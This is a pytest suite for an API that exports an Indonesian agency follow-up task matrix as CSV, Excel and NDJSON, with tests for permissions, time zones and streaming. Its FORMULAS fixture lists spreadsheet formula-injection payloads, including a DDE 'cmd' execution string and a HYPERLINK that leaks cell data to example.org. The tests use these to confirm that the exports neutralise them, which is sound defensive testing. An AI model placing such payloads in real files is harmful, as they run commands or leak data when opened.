"""The follow-up matrix as a file: the very list, in every form, with nothing in it that a spreadsheet would run."""

import asyncio
import csv
import io
import shutil
import subprocess
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from uuid import uuid4

import httpx
import pytest
from fastapi import FastAPI
from files import KINDS, Download, file_of, lines, list_of, records, table, workbook
from openpyxl.utils import get_column_letter
from support import Agency, SignIn

from app.matrix import CSV, NDJSON, XLSX
from app.matrix_columns import columns
from app.schemas.tasks import TaskFields
from app.services.matrix import STEP
from app.turns import REST

FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+62 811 000",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",  # noqa: RUF001 - full width, on purpose
]
JAYAPURA, MAKASSAR = "91.71", "73.71"


@pytest.fixture(scope="module")
async def hostile(bakesbangpol: Agency) -> list[dict[str, Any]]:
    """Tasks whose texts are formulas for whoever opens them carelessly."""
    return [
        await bakesbangpol.log(
            title=formula,
            description=f'Baris satu;{formula}\n;"{formula},baris dua, "kutip" <b>&amp;</b> _x003D_ ]]>',
            external_reference=f"={uuid4()}",
            due_at="2024-12-01T16:00:00+07:00",
        )
        for formula in FORMULAS
    ]


# the very list


@pytest.mark.parametrize("kind", KINDS)
async def test_every_row_of_the_list_is_a_row_of_the_file_and_no_other(kpu_ri: Agency, kind: str) -> None:
    listed = await list_of(kpu_ri)
    assert len(listed) > 2 * STEP
    answer = await file_of(kpu_ri, kind)
    if kind == NDJSON:
        assert lines(answer) == listed
        return
    rows: list[dict[str, Any]] = records(answer) if kind == CSV else table(workbook(answer.content))
    shown = [(one["ID"], one["Reference"], one["Status"], one["Access"]) for one in rows]
    assert shown == [(one["id"], one["reference"], one["status"], one["access"]) for one in listed]
    assert [str(one["No"]) for one in rows] == [str(number) for number in range(1, len(listed) + 1)]


@pytest.mark.parametrize(
    "params",
    [
        {"status": "assigned", "category": "asn_neutrality"},
        {"party": "me", "sort": "effective_at"},
        {"region": "35.73", "fields": "reference,status,due_at"},
        {"as_of": "2024-09-01T00:00:00+07:00"},
        {"classification": "rahasia"},
        {"external_reference": "nobody-has-this"},
    ],
)
async def test_filters_fields_and_the_past_are_those_of_the_list(
    bakesbangpol: Agency, kodim: Agency, hostile: list[dict[str, Any]], params: dict[str, str]
) -> None:
    assert hostile
    for agency in (bakesbangpol, kodim):
        listed = await list_of(agency, **params)
        assert lines(await file_of(agency, NDJSON, **params)) == listed
        assert len(records(await file_of(agency, CSV, **params))) == len(listed)
        assert len(table(workbook((await file_of(agency, XLSX, **params)).content))) == len(listed)


async def test_what_a_coordinator_sees_in_summary_is_in_summary_in_every_file(kodim: Agency, kpu: Agency) -> None:
    logged = await kodim.log(title="Hanya untuk para pihak", region="35.73.04.1011", classification="terbatas")
    params = {"region": "35.73.04.1011"}
    for kind in KINDS:
        answer = await file_of(kpu, kind, **params)
        content = answer.content if kind != XLSX else str(table(workbook(answer.content))).encode()
        assert logged["reference"].encode() in content
        assert b"Hanya untuk para pihak" not in content


async def test_a_secret_task_is_in_no_file_of_who_is_not_cleared(kpu: Agency, client_of: SignIn) -> None:
    cleared = await client_of("KPU_KOTA_MALANG", clearance="rahasia")
    hidden = await kpu.log(classification="rahasia", region="35.73.04.1010")
    for kind in (CSV, NDJSON):
        assert hidden["reference"] not in (await file_of(kpu, kind, region="35.73.04.1010")).text
        assert hidden["reference"] in (await file_of(cleared, kind, region="35.73.04.1010")).text


async def test_operators_and_administrators_get_no_file(operator: Agency, sign_in: SignIn) -> None:
    for agency in (operator, await sign_in("KPU_KOTA_MALANG", "agency_admin")):
        for kind in KINDS:
            answer = await agency.get("/v1/tasks", headers={"Accept": kind})
            assert (answer.status_code, answer.json()["code"]) == (403, "permission-denied")


@pytest.mark.parametrize("kind", KINDS)
async def test_an_empty_list_is_a_whole_file_without_rows(kpu: Agency, kind: str) -> None:
    answer = await file_of(kpu, kind, external_reference="nobody-has-this", count="exact")
    assert answer.headers["total-count"] == "0"
    if kind == XLSX:
        assert table(workbook(answer.content)) == []
    else:
        assert answer.content.count(b"\n") == (kind == CSV)


# nothing runs


async def test_no_cell_of_a_csv_is_a_formula_whatever_splits_it(
    bakesbangpol: Agency, hostile: list[dict[str, Any]]
) -> None:
    content = (await file_of(bakesbangpol, CSV)).content
    assert content.startswith(b"\xef\xbb\xbf")
    rows = records(await file_of(bakesbangpol, CSV))
    titles = {one["ID"]: one["Title"] for one in rows}
    for task, formula in zip(hostile, FORMULAS, strict=True):
        assert titles[task["id"]] == f"'{formula}"
    for separator in ",;\t|":  # as a spreadsheet of another country reads it
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator):
            for cell in row:
                assert not cell.strip(' "\n').startswith(("=", "@", "＝")), cell  # noqa: RUF001
                assert separator == "," or not cell.startswith(("+", "-")), cell


async def test_every_cell_of_a_workbook_is_text_a_number_or_a_date(
    bakesbangpol: Agency, hostile: list[dict[str, Any]]
) -> None:
    book = workbook((await file_of(bakesbangpol, XLSX)).content)
    for sheet in book:
        for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
            assert cell.data_type in {"s", "n", "d"}, (cell.coordinate, cell.data_type)
            assert not str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    found = {one["ID"]: one for one in table(book)}
    for task, formula in zip(hostile, FORMULAS, strict=True):
        assert found[task["id"]]["Title"] == f"'{formula}"
        assert '"kutip" <b>&amp;</b>' in found[task["id"]]["Description"]
        assert found[task["id"]]["External reference"] == f"'{task['external_reference']}"


async def test_ndjson_is_data_and_left_as_it_is(bakesbangpol: Agency, hostile: list[dict[str, Any]]) -> None:
    found = {one["id"]: one for one in lines(await file_of(bakesbangpol, NDJSON))}
    for task, formula in zip(hostile, FORMULAS, strict=True):
        assert found[task["id"]]["title"] == formula


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed here")
async def test_libreoffice_opens_the_workbook_and_shows_no_formula(
    bakesbangpol: Agency, hostile: list[dict[str, Any]], tmp_path: Path
) -> None:
    (tmp_path / "matrix.xlsx").write_bytes((await file_of(bakesbangpol, XLSX)).content)
    # 44,34,76: commas, quotes, UTF-8; the last `true` shows formulas where there are any
    how = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true"
    home = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = [
        "soffice",
        home,
        "--headless",
        "--convert-to",
        how,
        "--outdir",
        str(tmp_path),
        str(tmp_path / "matrix.xlsx"),
    ]
    ran = await asyncio.to_thread(subprocess.run, command, capture_output=True, timeout=180, check=True)
    text = (tmp_path / "matrix.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "@"))], ran.stdout
    assert {f"'{formula}" for formula in FORMULAS} <= set(cells)
    assert len(hostile) <= len(rows) - 4


# how it looks


async def test_headings_are_in_the_language_of_the_caller_and_codes_never_change(
    bakesbangpol: Agency, hostile: list[dict[str, Any]]
) -> None:
    params = {"external_reference": hostile[0]["external_reference"]}
    for kind in (CSV, XLSX):
        read = records if kind == CSV else lambda answer: table(workbook(answer.content))
        answers = {one: await file_of(bakesbangpol, kind, language=one, **params) for one in ("id", "en")}
        local, english = (read(answers[one])[0] for one in ("id", "en"))
        assert [*local][:3] == ["No", "Nomor", "Judul"]
        assert [*english][:3] == ["No", "Reference", "Title"]
        assert [*local.values()] == [*english.values()]
        assert (local["Status"], local["Kategori"]) == ("assigned", "asn_neutrality")
        assert {one: answers[one].headers["content-language"] for one in answers} == {"id": "id", "en": "en"}
        assert "matriks-tindak-lanjut-" in answers["id"].headers["content-disposition"]
        assert "Accept-Language" in answers["id"].headers["vary"]


async def test_a_workbook_is_laid_out_for_reading(bakesbangpol: Agency, hostile: list[dict[str, Any]]) -> None:
    book = workbook((await file_of(bakesbangpol, XLSX, language="id")).content)
    sheet, legend = book.worksheets
    assert (sheet.title, sheet["A1"].value, legend.title) == ("Matriks", "Matriks tindak lanjut", "Kode")
    assert "BAKESBANGPOL_KOTA_MALANG" in sheet["A2"].value
    assert sheet.freeze_panes == "C5"
    assert sheet.auto_filter.ref == f"A4:{get_column_letter(sheet.max_column)}{sheet.max_row}"
    assert sheet.column_dimensions["D"].width > 50
    assert sheet["D5"].alignment.wrap_text
    assert sheet.print_title_rows == "$4:$4"
    assert ("task_status", "assigned", "ditugaskan") in list(legend.iter_rows(values_only=True))
    assert len(hostile) <= sheet.max_row - 4


async def test_times_are_told_by_the_clocks_of_the_region(kpu_ri: Agency) -> None:
    moment = "2024-11-27T02:30:00Z"
    for region in (JAYAPURA, MAKASSAR, "35.73"):
        answer = await kpu_ri.post(
            "/v1/tasks",
            {
                "title": "Waktu",
                "description": "-",
                "category": "asn_neutrality",
                "function": "prevention",
                "region": region,
                "due_at": moment,
                "external_reference": f"WAKTU-{region}",
                "classification": "terbuka",
                "draft": True,
            },
        )
        assert answer.status_code == 201, answer.text
    expected = {JAYAPURA: (9, "WIT"), MAKASSAR: (8, "WITA"), "35.73": (7, "WIB")}
    for region, (hours, name) in expected.items():
        params = {"external_reference": f"WAKTU-{region}"}
        there = datetime.fromisoformat(moment).astimezone(timezone(timedelta(hours=hours)))
        (row,) = records(await file_of(kpu_ri, CSV, **params))
        assert (row["Due"], row["Time zone"]) == (there.isoformat(), name)
        book = workbook((await file_of(kpu_ri, XLSX, **params)).content)
        (shown,) = table(book)
        assert (shown["Due"], shown["Time zone"]) == (there.replace(tzinfo=None), name)


async def test_fields_choose_the_columns(bakesbangpol: Agency, hostile: list[dict[str, Any]]) -> None:
    assert hostile
    for kind in (CSV, XLSX):
        answer = await file_of(bakesbangpol, kind, fields="status,region,due_at")
        rows = records(answer) if kind == CSV else table(workbook(answer.content))
        assert [*rows[0]] == ["No", "Status", "Region code", "Region", "Due", "Time zone"]
    assert [*lines(await file_of(bakesbangpol, NDJSON, fields="status,id"))[0]] == ["id", "status"]


@pytest.mark.parametrize("kind", [CSV, XLSX])
async def test_what_is_true_or_false_is_text(bakesbangpol: Agency, hostile: list[dict[str, Any]], kind: str) -> None:
    answer = await file_of(bakesbangpol, kind, fields="mandate_ended", category=hostile[0]["category"])
    rows = records(answer) if kind == CSV else table(workbook(answer.content))
    assert {one["Mandate ended"] for one in rows} <= {"true", "false", None, ""}
    assert "false" in {one["Mandate ended"] for one in rows}


def test_every_member_of_a_task_has_a_column() -> None:
    names = [one.name for one in columns(None)]
    assert set(TaskFields.model_fields) <= set(names)
    assert len(names) == len(set(names))
    for name in TaskFields.model_fields:
        assert name in [one.name for one in columns([name])]


# asking


@pytest.mark.parametrize(
    ("accept", "status", "kind"),
    [
        (None, 200, "application/json"),
        ("*/*", 200, "application/json"),
        ("application/*", 200, "application/json"),
        ("text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", 200, "application/json"),
        ("text/*", 200, CSV),
        ("text/csv;q=0.5, application/json;q=0.4", 200, CSV),
        ("text/csv, application/json;q=0", 200, CSV),
        ("application/json;q=0.1, application/x-ndjson", 200, NDJSON),
        (XLSX.upper(), 200, XLSX),
        ("application/xml", 406, None),
        ("text/csv;q=0", 406, None),
        ("text/csv;q=x", 406, None),
    ],
)
async def test_the_form_is_the_one_that_accept_likes_best(
    kpu: Agency, accept: str | None, status: int, kind: str | None
) -> None:
    answer = await kpu.get("/v1/tasks", headers={} if accept is None else {"Accept": accept})
    assert answer.status_code == status, answer.text
    if kind is None:
        assert answer.json()["code"] == "not-acceptable"
        assert all(one in answer.json()["available"] for one in KINDS)
    else:
        assert answer.headers["content-type"].partition(";")[0] == kind


@pytest.mark.parametrize("params", [{"limit": "10"}, {"cursor": "x"}, {"sort": "-updated_at"}, {"sort": "due_at"}])
async def test_a_file_has_no_pages_and_no_order_that_moves(kpu: Agency, params: dict[str, str]) -> None:
    answer = await kpu.get("/v1/tasks", params=params, headers={"Accept": CSV})
    assert (answer.status_code, answer.json()["code"]) == (400, "invalid-parameter")
    assert [one["parameter"] for one in answer.json()["errors"]] == [*params]


async def test_count_says_beforehand_how_many_come(kpu_ri: Agency) -> None:
    for kind in KINDS:
        answer = await file_of(kpu_ri, kind, count="exact", region="35")
        expected = len(await list_of(kpu_ri, region="35"))
        assert answer.headers["total-count"] == str(expected)
        assert "total-count" not in (await file_of(kpu_ri, kind, region="35")).headers


# while it is written


async def test_no_connection_is_held_while_somebody_reads_slowly(nation: FastAPI, kpu_ri: Agency) -> None:
    held: list[int] = []

    async def look(_: Download) -> None:
        await asyncio.sleep(10 * REST)
        held.append(nation.state.database.engine.pool.checkedout())

    for kind in KINDS:
        download = await Download(nation, kpu_ri, kind).run(look)
        assert download.whole
    assert len(held) > 3 * 3
    assert set(held) == {0}


async def test_who_loses_its_token_on_the_way_gets_no_file_that_looks_whole(
    nation: FastAPI, registrar: Agency, kpu_ri: Agency
) -> None:
    place = f"/v1/clients/{kpu_ri.credentials['client_id']}/token-revocation"

    async def revoke(download: Download) -> None:
        if len(download.parts) == 1:
            answer = await registrar.post(place, {"reason": "Kebocoran"})
            assert answer.is_success, answer.text

    download = await Download(nation, kpu_ri).run(revoke)
    assert download.status == 200
    assert not download.whole
    told = b"".join(download.parts).count(b"\n")
    assert told == STEP
    answer = await kpu_ri.get("/v1/tasks", headers={"Accept": NDJSON})
    assert (answer.status_code, answer.json()["code"]) == (401, "token-invalid")


async def test_who_goes_leaves_nothing_behind(nation: FastAPI, kpu_ri: Agency) -> None:
    async def leave(download: Download) -> None:
        download.gone.set()
        await asyncio.sleep(0.05)

    download = await Download(nation, kpu_ri).run(leave)
    assert not download.whole
    await asyncio.sleep(10 * REST)
    assert nation.state.files._clients.total() == 0
    assert nation.state.database.engine.pool.checkedout() == 0


async def test_a_change_meanwhile_moves_no_task_out_of_the_file_or_twice_into_it(
    nation: FastAPI, kpu_ri: Agency
) -> None:
    logged = [(await kpu_ri.post("/v1/tasks", _draft(f"2024-0{month}-01T00:00:00Z"))).json() for month in (1, 2, 3)]
    before = [one["id"] for one in await list_of(kpu_ri)]

    async def change(download: Download) -> None:
        if len(download.parts) == 1:
            for one in logged:
                answer = await kpu_ri.patch(f"/v1/tasks/{one['id']}", {"priority": "high"}, etag='"1"')
                assert answer.status_code == 200, answer.text
            assert (await kpu_ri.post("/v1/tasks", _draft("2024-11-01T00:00:00Z"))).status_code == 201

    download = await Download(nation, kpu_ri).run(change)
    content = httpx.Response(200, content=b"".join(download.parts))
    assert [one["id"] for one in lines(content)] == before


def _draft(at: str) -> dict[str, Any]:
    said = {"title": "Konsep", "description": "-", "category": "asn_neutrality", "function": "prevention"}
    return {**said, "region": "35.73", "draft": True, "effective_at": at}


async def test_a_client_has_so_many_files_written_at_once_and_no_more(nation: FastAPI, kpu_ri: Agency) -> None:
    most = nation.state.database.settings.client_files
    reading, go_on = asyncio.Semaphore(0), asyncio.Event()

    async def wait(_: Download) -> None:
        reading.release()
        await go_on.wait()

    downloads = [asyncio.create_task(Download(nation, kpu_ri).run(wait)) for _ in range(most)]
    for _ in downloads:
        await asyncio.wait_for(reading.acquire(), 30)
    refused = await kpu_ri.get("/v1/tasks", headers={"Accept": CSV})
    assert (refused.status_code, refused.json()["code"]) == (429, "quota-exceeded")
    assert int(refused.headers["retry-after"]) > 0
    assert (await kpu_ri.get("/v1/tasks")).status_code == 200
    go_on.set()
    assert all(one.whole for one in await asyncio.gather(*downloads))
    assert (await kpu_ri.get("/v1/tasks", headers={"Accept": CSV})).status_code == 200


async def test_an_agency_with_many_clients_leaves_room_for_others(
    nation: FastAPI, registrar: Agency, kpu_ri: Agency
) -> None:
    settings = nation.state.database.settings
    assert settings.client_files < settings.agency_files < settings.process_files
    made = await registrar.post("/v1/clients", {"agency": "KPU_RI", "role": "supervisor", "purpose": "Matriks"})
    other = await Agency(registrar.http, {**made.json(), "agency": "KPU_RI"}).sign_in()
    reading, go_on = asyncio.Semaphore(0), asyncio.Event()

    async def wait(_: Download) -> None:
        reading.release()
        await go_on.wait()

    whose = [*[kpu_ri] * settings.client_files, *[other] * (settings.agency_files - settings.client_files)]
    downloads = [asyncio.create_task(Download(nation, one).run(wait)) for one in whose]
    for _ in downloads:
        await asyncio.wait_for(reading.acquire(), 30)
    assert (await other.get("/v1/tasks", headers={"Accept": CSV})).status_code == 429
    made = await registrar.post("/v1/clients", {"agency": "BAWASLU_RI", "role": "viewer", "purpose": "Matriks"})
    stranger = await Agency(registrar.http, {**made.json(), "agency": "BAWASLU_RI"}).sign_in()
    assert (await stranger.get("/v1/tasks", headers={"Accept": CSV})).status_code == 200
    go_on.set()
    assert all(one.whole for one in await asyncio.gather(*downloads))
    assert (await other.get("/v1/tasks", headers={"Accept": CSV})).status_code == 200
